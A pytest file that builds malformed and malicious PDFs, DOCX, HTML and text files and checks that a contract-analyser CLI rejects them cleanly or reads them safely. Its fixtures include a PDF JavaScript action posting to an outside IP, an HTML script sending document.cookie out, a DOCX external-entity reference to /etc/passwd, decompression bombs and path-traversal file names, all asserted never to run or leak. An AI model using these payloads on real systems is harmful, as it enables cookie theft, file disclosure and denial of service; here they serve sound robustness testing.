"""Hostile input: malformed or malicious files, generated here, run through the CLI as one batch.

For every case the batch must finish without a traceback, give that file a specific plain-language
error (or read it safely), analyse the good documents beside it, leave every input byte-identical
and write nothing outside --out. Reading is bounded in time (--timeout) and memory
(analyser.sandbox), which the last tests check directly.

Run: .venv/bin/pytest -q tests/test_hostile.py
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pytest
from docx import Document as DocxDocument
from fpdf import FPDF
from typer.testing import CliRunner

from analyser import export, sandbox
from analyser.cli import app
from analyser.config import Limits, Settings
from analyser.errors import IngestError
from analyser.ingest import parse_bytes, read_document
from analyser.pipeline import Analyser, AnalysisOptions
from tests.offline import network_guard

REPO = Path(__file__).resolve().parent.parent
GOOD = ("en_dpa_cloudhost.pdf", "nl_verwerkersovereenkomst_schoolcloud.pdf")
TIMEOUT_S = 5
CLAUSES = [
    "This Data Processing Agreement is governed by the laws of Ireland.",
    "Customer Data is stored in data centres in Frankfurt, Germany.",
    "The Processor notifies the Controller of a personal data breach within 48 hours.",
]
ENGLISH = " ".join(CLAUSES)

# --- Writing PDFs by hand, so that each one is broken in exactly one chosen way --------------------


def _stream(data: bytes, *, compress: bool = False, entries: bytes = b"") -> bytes:
    if compress:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def _text_operators(lines: list[str]) -> bytes:
    shown = b" ".join(b"(%s) Tj T*" % line.encode("latin-1") for line in lines)
    return b"BT /F1 11 Tf 14 TL 72 740 Td " + shown + b" ET"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page(contents: int = 5, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents %d 0 R %s >>" % (contents, extra)
    )


def _raw_pdf(objects: dict[int, bytes], *, shift_xref: int = 0) -> bytes:
    """A PDF with these numbered objects and a cross-reference table (its offsets shifted when asked)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_at, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % (offsets.get(number, 0) + shift_xref)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at + shift_xref)
    return bytes(out)


def _one_page_pdf(lines: list[str], *, catalog: bytes = b"", extra: dict[int, bytes] | None = None) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: _page(),
        4: _FONT,
        5: _stream(_text_operators(lines)),
    }
    return _raw_pdf({**objects, **(extra or {})})


def _good_pdf() -> bytes:
    return _one_page_pdf(CLAUSES)


def _truncated_pdf() -> bytes:
    data = _good_pdf()
    return data[: len(data) // 2]


def _broken_xref_pdf() -> bytes:
    """Every cross-reference offset is wrong; a tolerant reader rebuilds the table by scanning."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: _page(),
        4: _FONT,
        5: _stream(_text_operators(CLAUSES)),
    }
    return _raw_pdf(objects, shift_xref=7919)


def _encrypted(data: bytes, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner="owner-secret", R=6))
    return out.getvalue()


def _image_only_pdf() -> bytes:
    from PIL import Image

    image = io.BytesIO()
    Image.new("RGB", (200, 100), "white").save(image, format="PNG")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(io.BytesIO(image.getvalue()), x=10, y=10, w=100)
    return bytes(pdf.output())


def _thousands_of_pages_pdf(count: int = 5000) -> bytes:
    """`count` real page objects sharing one content stream: small on disk, large for a reader."""
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        4: _FONT,
        5: _stream(_text_operators(CLAUSES)),
    }
    objects.update({10 + i: _page() for i in range(count)})
    return _raw_pdf(objects)


def _deeply_nested_pdf() -> bytes:
    """An array nested 100,000 levels deep in the page dictionary: a recursive parser's stack overflow."""
    return _one_page_pdf(CLAUSES, extra={3: _page(extra=b"/Annots " + b"[" * 100_000 + b"]" * 100_000)})


def _cyclic_pages_pdf() -> bytes:
    """A page tree whose node lists itself and its parent as children: a naive walk never ends."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
        3: _page(),
        4: _FONT,
        5: _stream(_text_operators(CLAUSES)),
        6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 2 >>",
    }
    return _raw_pdf(objects)


def _decompression_bomb_pdf() -> bytes:
    """A 100 KB Flate stream that unpacks to 100 MB of zeros."""
    bomb = zlib.compress(b"\0" * (100 * 1024 * 1024), 9)
    return _one_page_pdf(
        [], extra={5: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(bomb), bomb)}
    )


def _slow_pdf() -> bytes:
    """Twenty pages sharing one content stream of 250,000 tiny text operators: minutes of work for a reader."""
    operators = b"BT /F1 1 Tf " + b"(a) Tj " * 250_000 + b"ET"
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(20))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count 20 >>" % kids,
        4: _FONT,
        5: _stream(operators, compress=True),
    }
    objects.update({10 + i: _page() for i in range(20)})
    return _raw_pdf(objects)


ATTACHMENT_SECRET = b"MZ-ATTACHED-PAYLOAD-never-read"
JS_MARKER = "app.alert"


def _active_content_pdf() -> bytes:
    """JavaScript run on open, a JavaScript name tree and an embedded executable: none of it may run or be read."""
    extra = {
        6: b"<< /S /JavaScript /JS (%s\\('pwned'\\); this.submitForm\\('http://198.51.100.7/x'\\);) >>"
        % JS_MARKER.encode(),
        7: b"<< /Names [(invoice.exe) 8 0 R] >>",
        8: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 9 0 R >> >>",
        9: _stream(ATTACHMENT_SECRET, entries=b" /Type /EmbeddedFile"),
        10: b"<< /JavaScript << /Names [(run) 6 0 R] >> /EmbeddedFiles 7 0 R >>",
    }
    return _one_page_pdf(CLAUSES, catalog=b"/OpenAction 6 0 R /Names 10 0 R", extra=extra)


# --- Word, HTML and text ----------------------------------------------------------------------------


def _docx(paragraphs: list[str]) -> bytes:
    document = DocxDocument()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """Raw deflate data of `megabytes` MB of zeros, built by repeating one flushed block, and its CRC-32."""
    chunk = b"\0" * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return block * megabytes + end, crc


def _docx_zip_bomb() -> bytes:
    """A valid DOCX plus one 2.5 MB member that unpacks to 2,500 MB."""
    base = zipfile.ZipFile(io.BytesIO(_docx(CLAUSES)))
    raw, crc = _deflated_zeros(2500)
    size, name = 2500 << 20, b"word/media/image1.bin"
    local, central = bytearray(), bytearray()
    members = [(info, base.read(info.filename)) for info in base.infolist()]
    for info, data in members:
        packed = zlib.compressobj(6, zlib.DEFLATED, -15)
        body = packed.compress(data) + packed.flush()
        central += _central_entry(info.filename.encode(), zlib.crc32(data), len(body), len(data), len(local))
        local += _local_entry(info.filename.encode(), zlib.crc32(data), len(body), len(data)) + body
    central += _central_entry(name, crc, len(raw), size, len(local))
    local += _local_entry(name, crc, len(raw), size) + raw
    count = len(members) + 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local), 0)
    return bytes(local + central + end)


def _local_entry(name: bytes, crc: int, packed: int, size: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, packed, size, len(name), 0) + name


def _central_entry(name: bytes, crc: int, packed: int, size: int, offset: int) -> bytes:
    header = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, packed, size, len(name), 0, 0, 0, 0, 0, offset
    )
    return header + name


def _docx_external_entity() -> bytes:
    """A DOCX whose XML declares entities pointing at a local file and a web address (XXE)."""
    data = _docx(CLAUSES)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    doctype = (
        '<!DOCTYPE w:document [<!ENTITY host SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://198.51.100.7/x">]>'
    )
    xml = xml.replace("<w:document", doctype + "<w:document", 1).replace("governed by", "governed by &host;&web;", 1)
    return _zip_replace(data, "word/document.xml", xml.encode())


def _zip_replace(data: bytes, member: str, content: bytes) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == member else source.read(info.filename))
    return out.getvalue()


HOSTILE_HTML = f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://198.51.100.7/redirect">
<link rel="stylesheet" href="https://198.51.100.7/style.css">
<script src="http://198.51.100.7/track.js"></script>
<script>fetch('http://198.51.100.7/leak?c=' + document.cookie); {JS_MARKER}('x');</script>
<style>@import url("http://198.51.100.7/import.css"); body {{ background: url(http://198.51.100.7/bg.png) }}</style>
</head><body>
<img src="http://198.51.100.7/pixel.gif"><iframe src="http://198.51.100.7/frame"></iframe>
<object data="http://198.51.100.7/object.swf"></object>
<h1>Data Processing Agreement</h1><p>{ENGLISH}</p>
</body></html>""".encode()


def _mixed_encoding_text() -> bytes:
    return (
        "Verwerker slaat de persoonsgegevens op in Nederland en België.\n".encode()
        + "Die Daten werden in Deutschland gespeichert und gelöscht.\n".encode("cp1252")
        + "Gerichtsstand ist Köln; the laws of Ireland govern.\n".encode("latin-1")
        + ENGLISH.encode()
    )


def _one_line_text(megabytes: int = 50) -> bytes:
    clause = (ENGLISH + " ").encode()
    return (clause * (megabytes * 1024 * 1024 // len(clause) + 1))[: megabytes * 1024 * 1024]


# --- The cases -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile file: its name, how to make it, and the outcome the batch must report for it."""

    name: str
    make: Callable[[], bytes]
    status: str  # "failed", or "ok" when the file must be read safely
    message: str  # what the report's error (failed) or warnings (ok) must say


CASES = (
    Case("zero-bytes.pdf", lambda: b"", "failed", "is empty (0 bytes)"),
    Case("random.pdf", lambda: os.urandom(64 * 1024).replace(b"%PDF", b"xxxx"), "failed", "is not a PDF"),
    Case("truncated.pdf", _truncated_pdf, "failed", "damaged or truncated PDF"),
    Case("broken-xref.pdf", _broken_xref_pdf, "ok", ""),
    Case("password.pdf", lambda: _encrypted(_good_pdf(), "secret"), "failed", "encrypted PDF that needs a password"),
    Case("empty-password.pdf", lambda: _encrypted(_good_pdf(), ""), "ok", ""),
    Case("scanned.pdf", _image_only_pdf, "failed", "no readable text layer"),
    Case("5000-pages.pdf", _thousands_of_pages_pdf, "failed", "has 5,000 pages, more than the limit of 1,500"),
    Case("deeply-nested.pdf", _deeply_nested_pdf, "failed", "damaged or truncated PDF"),
    Case("cyclic-pages.pdf", _cyclic_pages_pdf, "failed", "cyclic page references"),
    Case("flate-bomb.pdf", _decompression_bomb_pdf, "failed", "(a decompression bomb?)"),
    Case("slow.pdf", _slow_pdf, "failed", f"took longer than {TIMEOUT_S} s to read"),
    Case("javascript-attachment.pdf", _active_content_pdf, "ok", "JavaScript and embedded files: ignored"),
    Case("zip-bomb.docx", _docx_zip_bomb, "failed", "would unpack to 2,501 MB (a ZIP bomb?)"),
    Case("external-entity.docx", _docx_external_entity, "ok", ""),
    Case("not-a-docx.docx", lambda: b"PK\x03\x04" + os.urandom(512), "failed", "damaged ZIP/DOCX"),
    Case("scripts-and-links.html", lambda: HOSTILE_HTML, "ok", ""),
    Case("mixed-encoding.txt", _mixed_encoding_text, "ok", "not valid UTF-8"),
    Case("utf16.txt", lambda: ENGLISH.encode("utf-16"), "ok", ""),
    Case("binary.txt", lambda: bytes(range(256)) * 64, "failed", "binary content of unknown type"),
    Case("single-line-50mb.txt", _one_line_text, "failed", "characters of text, more than the limit of 5,000,000"),
    Case("%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt", lambda: ENGLISH.encode(), "ok", ""),
    Case("ctrl-\x1b[31mred\x07\r\n.txt", lambda: ENGLISH.encode(), "ok", ""),
    # A sub-folder "notes [" turns the shown path into console markup: "notes [/b] [link=https:x]y.txt".
    Case("notes [/b] [link=https:x]y.txt", lambda: ENGLISH.encode(), "ok", ""),
    Case("vertrag-" + "合同条款数据处理协议" * 8 + ".txt", lambda: ENGLISH.encode(), "ok", ""),
    Case("unreadable.txt", lambda: ENGLISH.encode(), "failed", "cannot be read: permission denied"),
)


def _report_stem_ok(name: str) -> bool:
    return not any(ord(c) < 32 or ord(c) == 127 for c in name) and len(name.encode()) <= 255


def _digests(folder: Path) -> dict[str, str]:
    """sha256 of every regular file under `folder` (links and special files are listed, not opened)."""
    found: dict[str, str] = {}
    for path in sorted(folder.rglob("*")):
        relative = str(path.relative_to(folder))
        if path.is_symlink() or not path.is_file():
            found[relative] = "special" if not path.is_dir() or path.is_symlink() else "dir"
        else:
            found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@dataclass
class BatchRun:
    """The outcome of one CLI run over the hostile folder."""

    exit_code: int
    stderr: str
    stdout: str
    reports: dict[str, dict[str, object]]  # by document (the path relative to the folder)
    out_files: list[str]
    seconds: float


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[BatchRun, Path]:
    """Build the hostile folder with two good documents in it, snapshot everything, run the CLI once."""
    root = tmp_path_factory.mktemp("hostile")
    batch, out, cwd = root / "batch", root / "out", root / "cwd"
    batch.mkdir()
    cwd.mkdir()
    for name in GOOD:
        shutil.copy(REPO / "examples" / name, batch / name)
    for case in CASES:
        (batch / case.name).parent.mkdir(exist_ok=True)
        (batch / case.name).write_bytes(case.make())
    (batch / "loop").symlink_to(batch, target_is_directory=True)  # a folder that contains itself
    (batch / "a-link.pdf").symlink_to(batch / "b-link.pdf")  # two links pointing at each other
    (batch / "b-link.pdf").symlink_to(batch / "a-link.pdf")
    before_inputs, before_root = _digests(batch), sorted(p.name for p in root.iterdir())
    unreadable = batch / "unreadable.txt"
    real_open = Path.open

    def refuse_unreadable(self: Path, *args: object, **kwargs: object) -> object:
        # As root a chmod 000 file is still readable, so the refusal is simulated the way the OS makes it.
        if self.name == unreadable.name:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[call-overload]

    with pytest.MonkeyPatch.context() as patch, network_guard() as attempts:
        patch.setattr(Path, "open", refuse_unreadable)
        patch.chdir(cwd)
        started = time.perf_counter()
        result = CliRunner().invoke(
            app, ["analyse", str(batch), "--out", str(out), "--backend", "rules", "--timeout", str(TIMEOUT_S)]
        )
        seconds = time.perf_counter() - started
    assert attempts == []
    assert _digests(batch) == before_inputs, "an input file was changed, added or removed"
    assert sorted(p.name for p in root.iterdir()) == sorted([*before_root, "out"]), "something was written beside --out"
    assert list(cwd.iterdir()) == [], "something was written to the working directory"
    reports = {}
    for path in out.glob("*.json"):
        report = json.loads(path.read_text(encoding="utf-8"))
        if isinstance(report, dict) and "document" in report:
            reports[str(report["document"])] = report
    out_files = [str(p.relative_to(out)) for p in out.rglob("*")]
    run = BatchRun(result.exit_code, result.stderr, result.stdout, reports, out_files, seconds)
    return run, out


def test_case_count() -> None:
    assert len(CASES) >= 20


@pytest.mark.parametrize("case", CASES, ids=[c.name.encode("unicode_escape").decode()[:40] for c in CASES])
def test_each_hostile_file_gets_its_own_outcome(hostile_run: tuple[BatchRun, Path], case: Case) -> None:
    run, _ = hostile_run
    report = run.reports[case.name]
    assert report["status"] == case.status, report["errors"]
    if case.status == "failed":
        assert len(report["errors"]) == 1
        assert case.message in report["errors"][0]
        assert "Traceback" not in report["errors"][0]
    else:
        assert report["errors"] == []
        if case.message:
            assert any(case.message in w for w in report["warnings"]), report["warnings"]


def test_batch_finishes_without_traceback_and_analyses_the_good_documents(hostile_run: tuple[BatchRun, Path]) -> None:
    run, _ = hostile_run
    assert run.exit_code == 1  # some documents failed: that is reported, not raised
    assert "Traceback" not in run.stderr + run.stdout
    for name in GOOD:
        assert run.reports[name]["status"] == "ok"
        assert run.reports[name]["governing_law"]
    assert run.seconds < 60


def test_safely_read_files_keep_their_content_and_drop_the_rest(hostile_run: tuple[BatchRun, Path]) -> None:
    run, _ = hostile_run
    for name in ("broken-xref.pdf", "empty-password.pdf", "javascript-attachment.pdf", "utf16.txt"):
        assert run.reports[name]["governing_law"] == "IE", name
    serialised = json.dumps(run.reports, ensure_ascii=False)
    assert JS_MARKER not in serialised
    assert ATTACHMENT_SECRET.decode() not in serialised
    assert "198.51.100.7" not in serialised
    assert "root:" not in serialised  # /etc/passwd was never pulled in through the XML entity


def test_report_names_are_safe_files_inside_out(hostile_run: tuple[BatchRun, Path]) -> None:
    run, out = hostile_run
    for relative in run.out_files:
        path = out / relative
        assert path.resolve().is_relative_to(out.resolve())
        assert _report_stem_ok(path.name), relative
    assert len(run.reports) == len(CASES) + len(GOOD)
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr  # no terminal escapes from a file name


def test_symlink_loops_in_the_folder_are_not_followed(hostile_run: tuple[BatchRun, Path]) -> None:
    run, _ = hostile_run
    assert not any(name.startswith("loop/") for name in run.reports)  # each good document read once
    for name in ("a-link.pdf", "b-link.pdf"):
        if name in run.reports:  # a link that loops may be listed, but only as a failure that says so
            assert run.reports[name]["status"] == "failed"
            assert "link" in run.reports[name]["errors"][0]


# --- Special files given by name -------------------------------------------------------------------


def _special_files(folder: Path) -> dict[str, str]:
    """Files a reader must not open blindly, with the reason each must fail with."""
    os.mkfifo(folder / "pipe.pdf")  # opening a FIFO for reading blocks until someone writes
    (folder / "zero.pdf").symlink_to("/dev/zero")  # endless
    (folder / "a.pdf").symlink_to(folder / "b.pdf")
    (folder / "b.pdf").symlink_to(folder / "a.pdf")
    (folder / "dangling.pdf").symlink_to(folder / "gone.pdf")
    return {
        "pipe.pdf": "not a regular file",
        "zero.pdf": "not a regular file",
        "a.pdf": "symbolic link that loops or points nowhere",
        "dangling.pdf": "symbolic link that loops or points nowhere",
    }


def test_special_files_named_on_the_command_line_fail_fast(tmp_path: Path) -> None:
    expected = _special_files(tmp_path)
    good = tmp_path / "good.txt"
    good.write_text(ENGLISH)
    out = tmp_path / "out"
    args = [str(tmp_path / name) for name in expected] + [str(good)]
    started = time.perf_counter()
    result = CliRunner().invoke(app, ["analyse", *args, "--out", str(out), "--backend", "rules"])
    assert time.perf_counter() - started < 30
    assert result.exit_code == 1
    assert "Traceback" not in result.stderr
    reports = {r["document"]: r for r in (json.loads(p.read_text()) for p in out.glob("*.json")) if "document" in r}
    for name, reason in expected.items():
        assert reports[name]["status"] == "failed"
        assert reason in reports[name]["errors"][0], reports[name]["errors"]
    assert reports["good.txt"]["status"] == "ok"


@pytest.mark.parametrize(
    ("name", "code"),
    [("pipe.pdf", "not_a_file"), ("zero.pdf", "not_a_file"), ("a.pdf", "broken_link"), ("dangling.pdf", "broken_link")],
)
def test_special_files_errors(tmp_path: Path, name: str, code: str) -> None:
    _special_files(tmp_path)
    with pytest.raises(IngestError) as caught:
        read_document(tmp_path / name)
    assert caught.value.code == code


def test_unreadable_file_for_real(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads a chmod 000 file anyway; the batch test simulates the refusal instead")
    path = tmp_path / "locked.txt"
    path.write_text(ENGLISH)
    path.chmod(0)
    try:
        with pytest.raises(IngestError) as caught:
            read_document(path)
    finally:
        path.chmod(0o600)
    assert caught.value.code == "unreadable"


def test_upload_names_cannot_steer_where_the_report_goes(tmp_path: Path) -> None:
    """The app passes an upload's own name; "../../x" or an absolute path must stay a plain name inside --out."""
    out = tmp_path / "deep" / "out"
    analyser = Analyser(AnalysisOptions(backend="rules"), Settings())
    for name in ("../../escaped.txt", "/tmp/absolute.txt", "..", "C:\\Windows\\x.txt", "a/../../../b.txt"):
        report = analyser.analyse_document(parse_bytes(ENGLISH.encode(), name))
        written = export.write_report(report, out)
        assert written.parent == out, name
        assert _report_stem_ok(written.name)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deep"]
    assert sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["out"]


# --- The bounds themselves ----------------------------------------------------------------------------


def test_timeout_stops_a_reader_and_says_so() -> None:
    started = time.perf_counter()
    with pytest.raises(IngestError) as caught:
        sandbox.run_bounded(time.sleep, 60, name="slow.pdf", timeout_s=1, memory_mb=256)
    assert time.perf_counter() - started < 10
    assert caught.value.code == "timeout"
    assert str(caught.value).startswith("slow.pdf: took longer than 1 s to read")


def test_memory_limit_stops_a_reader_and_says_so() -> None:
    with pytest.raises(IngestError) as caught:
        sandbox.run_bounded(bytes, 1 << 30, name="greedy.docx", timeout_s=30, memory_mb=200)
    assert caught.value.code == "memory"
    assert "needed more than 200 MB of memory" in caught.value.reason


def test_a_crashing_reader_is_a_plain_error() -> None:
    with pytest.raises(IngestError) as caught:
        sandbox.run_bounded(os.abort, name="crash.pdf", timeout_s=30, memory_mb=256)
    assert caught.value.code == "crashed"
    assert "made the reader crash (SIGABRT)" in caught.value.reason


def test_limits_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from analyser.config import load_settings

    monkeypatch.setenv("ANALYSER_TIMEOUT_S", "7.5")
    monkeypatch.setenv("ANALYSER_MAX_MEMORY_MB", "300")
    limits = load_settings().limits
    assert (limits.timeout_s, limits.max_memory_mb, limits.isolate) == (7.5, 300, True)


def test_timeout_is_configurable_per_call() -> None:
    with pytest.raises(IngestError) as caught:
        parse_bytes(_slow_pdf(), "slow.pdf", Limits(timeout_s=1))
    assert caught.value.code == "timeout"


def test_reading_in_process_gives_the_same_document(tiny_pdf: Path) -> None:
    isolated = read_document(tiny_pdf)
    direct = read_document(tiny_pdf, Limits(isolate=False))
    assert isolated == direct


def test_the_callers_main_script_is_not_run_again_in_the_reader(tmp_path: Path) -> None:
    """multiprocessing re-imports __main__ in its children; an unguarded script must not run twice."""
    import subprocess
    import sys

    marker = tmp_path / "runs.txt"
    script = tmp_path / "unguarded.py"
    script.write_text(
        "from pathlib import Path\n"
        "from analyser.ingest import parse_bytes\n"
        f"with open({str(marker)!r}, 'a') as f: f.write('run\\n')\n"
        f"print(parse_bytes(b'{ENGLISH}', 'x.txt').language)\n"
    )
    result = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "en"
    assert marker.read_text() == "run\n"
